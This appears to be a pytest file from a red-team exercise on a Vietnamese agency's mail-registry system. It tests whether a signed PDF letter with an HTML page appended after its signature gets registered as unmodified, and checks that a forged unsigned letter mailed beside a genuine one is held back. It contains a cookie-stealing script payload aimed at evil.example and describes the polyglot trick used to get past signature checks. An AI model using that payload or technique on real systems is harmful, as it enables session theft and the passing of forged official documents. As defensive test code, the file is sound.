"""Red team 96 (2026-12-06): a forger at the PDF-signature side of the legal-value decision (incremental updates after
signing, other agencies' and persons' certificates, stamps, polyglots, several PDFs in one mail, a signed PDF embedded
in another). One fault found: a signed letter with an HTML page (and its script) appended after its signed revision is
registered as signed and unmodified, its issuer acknowledged, and kept and passed on whole, though the same letter with
a zip appended is refused as a polyglot (fixed at stop 44: bytes after a signed file's revisions are a change after
signing, `signature-modified`). The rest held (see the report); one property is locked in here."""

from __future__ import annotations

import hashlib

from world import STP, US, World

CLERK = US["mailbox"]
SCRIPT_TAIL = b"\n<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>\n"


def _answered(out: dict) -> set[tuple[str, str]]:  # type: ignore[type-arg]
    return {(r["kind"], r["to"]) for r in out["replies"] if r["kind"] in ("ack", "return")}


def test_a_signed_letter_with_an_html_page_appended_after_its_signature_is_not_registered_as_signed(world: World) -> None:
    """Attack: Sở Tư pháp's genuine signed letter (701/STP-VP), an HTML page with a script appended after its last
    "%%EOF" (fewer than 1,024 bytes, so MuPDF still finds the signed "startxref"), mailed by nobody proven as "cv.pdf".
    The bytes after the signature's /ByteRange are covered by no signature; the file is a PDF and an HTML page at once,
    as the same letter with a zip appended is a PDF and an archive (refused: "PDF ghép với tệp nén").
    Expected: not taken as a signed, unmodified document: refused as a polyglot or `signature-modified`; nothing
    registered, nobody but the clerk told.
    Observed: accepted on its signature ("modified_after": false), numbered, Sở Tư pháp acknowledged, and the file kept in
    the store whole, script included (it is what the desk hands out and what passing on mails to the units)."""
    signed = world.signed("stp", world.document(number="701/STP-VP"))
    sent = signed + SCRIPT_TAIL
    [out] = world.ingest(world.mail("html-tail", auth=None, attachments=[("cv.pdf", sent)]))
    digest = hashlib.sha256(sent).hexdigest()
    kept_whole = (world.root / "store" / "sha256" / digest[:2] / digest).exists()
    assert out["incoming_number"] is None and _answered(out) == set(), \
        (out["verdict"], out["incoming_number"], [r["code"] for r in out["reasons"]], out.get("signatures"), kept_whole)


def test_of_two_letters_in_one_mail_only_the_one_its_issuer_signed_is_registered(world: World) -> None:
    """(Passes; locks it in.) A mail from nobody proven carrying Sở Tư pháp's genuine signed 703/STP-VP and, beside it, an
    unsigned 704/STP-VP of the forger's ("cấp kinh phí cho Công ty ABC") printed under the same issuer: each is judged
    on its own. The signed one is registered and acknowledged to Sở Tư pháp's directory mailbox only; the unsigned one
    takes no number and only the clerk hears of it; the register holds the signed one alone."""
    genuine = world.signed("stp", world.document(number="703/STP-VP"))
    forged = world.document(number="704/STP-VP", summary="V/v cấp kinh phí cho Công ty ABC")
    outs = world.ingest(world.mail("two-letters", auth=None, attachments=[("a.pdf", genuine), ("b.pdf", forged)]))
    by_number = {o["document"]["number"]: o for o in outs}
    assert set(by_number) == {"703/STP-VP", "704/STP-VP"}, [o["document"] for o in outs]
    ok, held = by_number["703/STP-VP"], by_number["704/STP-VP"]
    assert (ok["verdict"], ok["basis"], _answered(ok)) == ("accepted", "signature", {("ack", STP)}), ok["reasons"]
    assert (held["verdict"], held["incoming_number"], _answered(held)) == ("quarantined", None, set()), held["reasons"]
    assert [(d.notation, d.arrival_number) for d in world.documents()] == [("703/STP-VP", ok["incoming_number"])]
